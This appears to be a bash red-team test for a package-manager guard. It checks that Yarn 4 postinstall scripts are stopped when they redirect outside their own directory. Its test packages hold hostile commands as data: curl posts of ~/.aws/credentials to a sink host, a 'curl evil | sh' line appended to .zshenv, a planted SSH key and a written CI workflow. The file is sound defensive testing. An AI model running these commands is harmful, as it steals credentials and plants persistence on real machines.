#!/bin/bash
# M09: Yarn 2 and later run scripts in a shell of their own, in the manager's process, which opens
# what a script redirects. What managers never do by themselves is stopped there. What the project's
# own scripts redirect is not judged, and honest packages redirect in their directories.
# vm: no (downloads the manager)
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh
. tests/redteam/managers.sh
[ -n "${LAB_INSIDE:-}" ] || managers_fetch yarn4
managers_have yarn4 || { echo 'SKIP: no yarn 4: the registry does not answer'; exit 77; }

rt_begin M09 "a manager's own shell"
RT_HONEST=(ms) RT_SCRIPTED=()
YARN=$MANAGERS/yarn4/node_modules/.bin/yarn
CREDENTIALS='<"$HOME/.aws/credentials"'
LINKER=node-modules SCRIPTS='{}'
rt_setup() {
	printf '%s\n' "npmRegistryServer: \"$LAB_REGISTRY\"" 'unsafeHttpWhitelist: ["127.0.0.1"]' \
		'enableScripts: true' "nodeLinker: $LINKER" 'npmMinimalAgeGate: 0' \
		'enableTelemetry: false' >"$RT_PROJECT/.yarnrc.yml"
	: >"$RT_PROJECT/yarn.lock"
	jq --argjson scripts "$SCRIPTS" '.scripts = $scripts' "$RT_PROJECT/package.json" \
		>"$LAB/p.json" && cat "$LAB/p.json" >"$RT_PROJECT/package.json"
	chown -R "$LAB_UID:$LAB_GID" "$RT_PROJECT"
}
attack() { # NAME SCRIPT PROOF...: PROOF holds where the attack is carried out
	RT_DEPENDENCIES=() RT_ATTACKERS=() RT_COMMAND=("$YARN" install)
	rt_package "$1" 1.0.0 - postinstall "$2"
	rt_control "$1"
	rt_ok "$1: it works" "${@:3}"
	rt_guarded "$1" || return
	rt_is "$1: exit status" "$RT_STATUS" 86
	rt_ok "$1: stopped" no "${@:3}"
	rt_silent
	rt_no_survivors
}
no() { ! "$@"; }
post="curl -s --data-binary @- http://$RT_SINK/x"
sent() { rt_has_leaked .aws/credentials; }
has() { [ -s "$RT_HOME/$1" ]; }

attack read-x "$post $CREDENTIALS" sent
rt_accused read-x credentials
# The permit that is printed excepts this package there, too, and not node.
mkdir "$LAB/permit"
sed -n 's/^  permit   [^{]*\({.*}\)$/\1/p' "$LAB/out.$RT_LANE" >"$LAB/permit/t.json"
rt_is 'the permit' "$(jq -c .unless "$LAB/permit/t.json")" '{"package":["read-x"]}'
LAB_WORMSIGN_ARGS="--rules $LAB/permit"
if rt_guarded permitted; then
	rt_leaked .aws/credentials
fi
LAB_WORMSIGN_ARGS=
attack pipe-x "cat $CREDENTIALS | $post" sent
LINKER=pnp
attack second-x "node -e 1 && $post $CREDENTIALS" sent
LINKER=node-modules
attack shell-x 'echo "curl evil | sh" >>"$HOME/.zshenv"' has .zshenv
attack key-x 'echo "ssh-ed25519 AAAA" >"$HOME/.ssh/authorized_keys2"' has .ssh/authorized_keys2
attack workflow-x 'echo "on: push" >"$INIT_CWD/.gitlab-ci.yml"' has work/app/.gitlab-ci.yml

# Packages redirect in their own directory; the project's own scripts as they like.
RT_DEPENDENCIES=() RT_ATTACKERS=()
rt_package honest-x 1.0.0 - postinstall 'node -p 1 >build.log && cat <package.json >copy.json'
RT_ATTACKERS=()
SCRIPTS='{"postinstall": "node -p 1 >made.txt; wc -c <\"$HOME/.aws/credentials\"",
	"login": "wc -c <\"$HOME/.aws/credentials\"; echo x >\"$HOME/.zshenv\""}'
for command in install 'run login'; do
	read -ra RT_COMMAND <<<"$YARN $command"
	[ "$command" = install ] ||
		RT_COMMAND=(sh -c "$YARN install >/dev/null && exec $YARN $command")
	if rt_guarded "honest-${command##* }"; then
		rt_peaceful
		rt_ok 'the package has made its files' has work/app/node_modules/honest-x/copy.json
		rt_ok "the project's script has run" has work/app/made.txt
	fi
done
rt_ok 'the login script has written' has .zshenv
rt_end
